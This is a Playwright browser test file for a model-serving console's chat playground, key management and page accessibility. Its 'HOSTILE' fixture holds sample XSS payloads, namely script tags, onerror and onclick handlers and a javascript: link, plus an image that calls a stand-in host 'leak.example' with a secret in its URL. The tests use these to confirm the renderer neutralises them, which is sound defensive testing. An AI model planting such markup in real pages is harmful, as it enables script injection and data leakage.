"""The playground in a browser, against a server that streams as the gateway does; and the pages around it."""

from __future__ import annotations

import asyncio
import re
import threading
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser.checks import overflowing, violations
from tests.browser.conftest import Console
from tests.unit.console.chat_gateway_stand_in import GatewayStandIn

OpenPage = Callable[..., Page]

HOSTILE = """Some **bold** text with `code`.

<img src="https://leak.example/a.png" onerror="window.broken = 1">
<script>window.broken = 2</script>

An <b onclick="window.broken = 3">inline</b> tag, ![pixel](https://leak.example/pixel.png?secret),
[good](https://example.org/page), [bad](javascript:window.broken=4) and [data](data:text/html,x).

| A | B |
| --- | --- |
| 1 | 2 |

```python
print("<script>window.broken = 5</script>")
```

- one
- two
"""
REPLIES = {"hostile": HOSTILE, "long": "A line of words that is long enough.\n\n" * 60}
PATHS = [
    "/models/",
    "/models/tiny/",
    "/models/tiny/edit/",
    "/models/new/",
    "/playground/",
    "/keys/",
    "/settings/tokens/",
    "/settings/users/",
    "/settings/profile/",
]


@pytest.fixture(scope="module")
def gateway(console: Console) -> Iterator[GatewayStandIn]:
    """The stand-in at the address where this copy expects the gateway, in a loop of its own."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    stand_in = GatewayStandIn(REPLIES)
    asyncio.run_coroutine_threadsafe(stand_in.start(console.gateway_port), loop).result(10)
    yield stand_in
    asyncio.run_coroutine_threadsafe(stand_in.stop(), loop).result(70)
    loop.call_soon_threadsafe(loop.stop)
    thread.join(timeout=10)
    loop.close()


def ask(page: Page, question: str) -> None:
    page.fill("#message", question)
    page.press("#message", "Enter")


def wait_for_end(page: Page) -> None:
    expect(page.locator("#send")).to_be_visible()


def wait_for_abort(page: Page, gateway: GatewayStandIn) -> None:
    """The caller's end reaches the gateway over its own connection, a moment later."""
    for _ in range(100):
        if gateway.aborted.is_set():
            return
        page.wait_for_timeout(50)
    raise AssertionError("the request went on in the engine")


@pytest.mark.parametrize("width", [1440, 390])
@pytest.mark.parametrize("theme", ["light", "dark"])
def test_every_page_is_accessible_and_nothing_overflows(open_page: OpenPage, theme: str, width: int) -> None:
    page = open_page("/models/", person="ada", theme=theme, width=width)
    found = []
    for path in PATHS:
        page.goto(path)
        page.wait_for_selector("body[data-ready]")
        found += [f"{path}: overflow {box}" for box in overflowing(page)]
        found += [f"{path}: {rule}" for rule in violations(page)]
    assert not found


def test_a_reply_streams_with_its_figures_and_is_there_after_a_reload(
    open_page: OpenPage, gateway: GatewayStandIn
) -> None:
    page = open_page("/playground/?a=serving", person="vera")
    ask(page, "<b>hello</b>\nin two lines")
    wait_for_end(page)
    expect(page.locator("[data-body]")).to_contain_text("Hello")
    meta = page.locator("[data-meta]").inner_text().replace("\u00a0", " ")
    for word in ("TTFT", "TPOT", "7 tok", "tok/s", "at most, estimate"):
        assert word in meta
    expect(page.locator("[data-question] b")).to_have_count(0)
    assert re.search(r"/playground/\d+/$", page.url)
    page.reload()
    expect(page.locator("[data-question]")).to_have_text("<b>hello</b>\nin two lines")
    expect(page.locator("[data-body]")).to_contain_text("Hello")
    assert not overflowing(page) and not violations(page)


def test_hostile_markdown_stays_text(open_page: OpenPage, gateway: GatewayStandIn) -> None:
    page = open_page("/playground/?a=serving")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    ask(page, "hostile")
    wait_for_end(page)
    body = page.locator("[data-body]")
    expect(body.locator("strong")).to_have_text("bold")
    expect(body.locator("table td")).to_have_count(2)
    expect(body.locator("pre code")).to_contain_text('print("<script>window.broken = 5</script>")')
    expect(body.locator("img, script, b, [onclick], [onerror], iframe, style")).to_have_count(0)
    links = body.locator("a").evaluate_all("all => all.map(a => [a.textContent, a.href, a.rel, a.target])")
    safe = ["noopener noreferrer", "_blank"]
    assert links == [
        ["pixel", "https://leak.example/pixel.png?secret", *safe],
        ["good", "https://example.org/page", *safe],
    ]
    assert page.evaluate("window.broken") is None
    assert not [url for url in asked if "leak.example" in url]


def test_escape_stops_upstream_and_keeps_what_had_come(open_page: OpenPage, gateway: GatewayStandIn) -> None:
    page = open_page("/playground/?a=serving")
    gateway.aborted.clear()
    ask(page, "endless")
    expect(page.locator("[data-body]")).to_contain_text("more more")
    page.keyboard.press("Escape")
    expect(page.locator("[data-stopped]")).to_be_visible()
    wait_for_abort(page, gateway)
    page.reload()
    expect(page.locator("[data-stopped]")).to_be_visible()
    expect(page.locator("[data-body]")).to_contain_text("more more")


def test_a_closed_tab_stops_upstream(open_page: OpenPage, gateway: GatewayStandIn) -> None:
    page = open_page("/playground/?a=serving")
    gateway.aborted.clear()
    ask(page, "endless")
    expect(page.locator("[data-body]")).to_contain_text("more")
    other = open_page("/playground/")
    page.close()
    wait_for_abort(other, gateway)


def test_what_goes_wrong_is_said_in_place_and_can_be_tried_again(
    open_page: OpenPage, gateway: GatewayStandIn
) -> None:
    page = open_page("/playground/?a=serving")
    ask(page, "starting")
    error = page.locator("[data-error]").last
    expect(error).to_contain_text("is starting")
    expect(error).to_contain_text("It asks to wait 14")
    gateway.replies["starting"] = "Awake now."
    page.click("[data-retry]")
    expect(page.locator("[data-body]").last).to_contain_text("Awake now.")
    expect(page.locator("[data-version]").last).to_have_text("2/2")
    del gateway.replies["starting"]
    ask(page, "engine dies")
    expect(page.locator("[data-error]").last).to_contain_text("The engine stopped")
    expect(page.locator("[data-body]").last).to_contain_text("Hello")


def test_reading_earlier_text_is_not_disturbed(open_page: OpenPage, gateway: GatewayStandIn) -> None:
    page = open_page("/playground/?a=serving")
    ask(page, "long")
    page.wait_for_function("() => document.getElementById('log').scrollTop > 50")
    page.evaluate("document.getElementById('log').scrollTop = 0")
    wait_for_end(page)
    assert page.evaluate("document.getElementById('log').scrollTop") == 0
    page.click("#to-end")
    left = "(l => l.scrollHeight - l.scrollTop - l.clientHeight)(document.getElementById('log'))"
    assert page.evaluate(left) < 2


def test_only_deployments_that_can_answer_can_be_chosen(open_page: OpenPage) -> None:
    page = open_page("/playground/")
    page.click("#chosen")
    usable = page.locator("#picker input:not([disabled])").evaluate_all("all => all.map(one => one.value)")
    assert {"serving", "sleeping"} <= set(usable) and not {"broken", "loading", "halted"} & set(usable)
    expect(page.locator("#pick-broken")).to_contain_text("no tensor model.embed_tokens.weight")


def test_a_draft_survives_a_reload_and_a_chat_is_deleted(
    open_page: OpenPage, gateway: GatewayStandIn
) -> None:
    page = open_page("/playground/?a=serving", person="ada")
    ask(page, "to be deleted")
    wait_for_end(page)
    page.fill("#message", "half a thought")
    page.reload()
    expect(page.locator("#message")).to_have_value("half a thought")
    page.click(".chat-title")
    page.click("[data-delete-chat]")
    page.click("#delete-dialog button[type=submit]")
    page.wait_for_url("**/playground/")
    page.click(".chat-title")
    expect(page.locator("#chats")).not_to_contain_text("to be deleted")


def test_with_history_off_nothing_is_kept(open_page: OpenPage, gateway: GatewayStandIn) -> None:
    page = open_page("/playground/?a=serving", person="ada")
    page.click("#keep-history [role=switch]")
    expect(page.locator("[data-history=false]")).to_be_visible()
    ask(page, "secret question")
    wait_for_end(page)
    assert page.url.endswith("/playground/?a=serving")
    page.reload()
    expect(page.locator("#log")).not_to_contain_text("secret question")
    page.click("#keep-history [role=switch]")
    expect(page.locator("[data-history=true]")).to_be_visible()


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_a_keys_limits_are_set_and_changed(open_page: OpenPage, theme: str) -> None:
    page = open_page("/keys/", theme=theme)
    name = f"limited in the {theme}"
    page.fill("[name=name]", name)
    page.click("summary:has-text('Limits')")
    page.fill("[name=requests_per_minute]", "60")
    page.check("[name=deployments] >> nth=0")
    assert not overflowing(page) and not violations(page)
    page.click("text=Create key")
    page.goto("/keys/")
    page.click(f"[aria-label='Edit {name}']")
    expect(page.locator("[name=requests_per_minute]")).to_have_value("60")
    page.fill("[name=budget_usd_per_day]", "2.5")
    for width in (1440, 390):
        page.set_viewport_size({"width": width, "height": 900})
        assert not overflowing(page) and not violations(page)
    page.click("text=Save")
    row = page.locator("tr", has_text=name)
    expect(row).to_contain_text("$2.50")
    page.set_viewport_size({"width": 390, "height": 844})
    assert not overflowing(page) and not violations(page)


def test_a_new_key_can_be_copied_and_is_shown_once(open_page: OpenPage) -> None:
    page = open_page("/keys/")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.fill("[name=name]", "from the browser")
    page.click("text=Create key")
    key = page.locator("#new-key").inner_text()
    page.click("[data-copy=new-key]")
    expect(page.locator("[data-copy=new-key]")).to_contain_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == key
    page.goto("/keys/")
    assert key not in page.content()
